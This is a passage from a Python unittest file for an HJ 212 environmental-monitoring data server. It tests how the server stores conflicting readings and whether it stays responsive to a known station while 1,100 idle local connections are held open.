        self.assertEqual(status, 200)
        self.assertEqual(json.loads(body)["hours_used"], used)  # not counted

    def test_a_second_different_value_is_kept_as_a_conflict(self):
        s = self.server
        for value, qn in (("41", "20260301000000001"), ("77", "20260301000000002")):
            c = connect(s.hj_port)
            c.sendall(hourly(GOOD_MN, GOOD_PW, "20260301000000", pm25=value, qn=qn))
            self.assertIn(b"CN=9014", c.recv(4096))
            c.close()
        stored = s.query("SELECT value FROM observations WHERE mn = ? AND data_time = '2026-03-01T00:00:00+08:00'", GOOD_MN)
        self.assertEqual(stored, [("41",)])
        conflicts = s.query("SELECT stored_value, new_value FROM observation_conflicts WHERE mn = ?", GOOD_MN)
        self.assertEqual(conflicts, [("41", "77")])

    def test_idle_strangers_cannot_starve_the_stations(self):
        s = self.server
        good = connect(s.hj_port)  # a station that has spoken keeps its slot
        good.sendall(hourly(GOOD_MN, GOOD_PW, "20260302000000", qn="20260302000000000"))
        self.assertIn(b"CN=9014", good.recv(4096))
        socks = []
        for i in range(1100):  # more than the 1,000 cap, 50 per address
            try:
                socks.append(connect(s.hj_port, f"127.0.2.{i // 50 + 1}"))
            except OSError:
                pass
        cpu = s.cpu_seconds()
        time.sleep(3)
        spent = s.cpu_seconds() - cpu
        self.assertLess(spent, 1.0, f"{spent:.2f} s of CPU in 3 s with idle connections (a spinning accept loop?)")
        good.sendall(hourly(GOOD_MN, GOOD_PW, "20260302010000", qn="20260302010000000"))
        good.settimeout(2)
        self.assertIn(b"CN=9014", good.recv(4096))
        self.assert_serving("1,100 idle HJ 212 connections")
        for c in socks:
            c.close()


if __name__ == "__main__":
    unittest.main(argv=[sys.argv[0], "-v"])
